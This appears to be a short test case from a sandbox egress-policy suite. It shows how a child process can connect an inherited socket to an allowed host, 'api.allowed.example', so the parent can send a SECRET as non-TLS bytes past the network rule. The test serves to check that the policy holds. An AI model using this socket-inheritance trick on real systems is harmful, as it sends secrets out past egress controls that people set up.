# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a program connects a socket that its parent has too: the parent sends bytes that are not
#   TLS
# proof: word
# needs: resolver
import os
import socket

from attack import SECRET, at_allowed, attempt, child


def say(place):
    out = socket.socket()
    os.set_inheritable(out.fileno(), True)
    name, port = "api.allowed.example", place[1]
    code = "import socket; socket.getaddrinfo(%r, %d); socket.socket(fileno=%d).connect(%r)"
    child(code % (name, port, out.fileno(), place), close_fds=False)
    out.send(SECRET.encode())
    return out


@attempt
def send():
    return at_allowed(say, first=False)
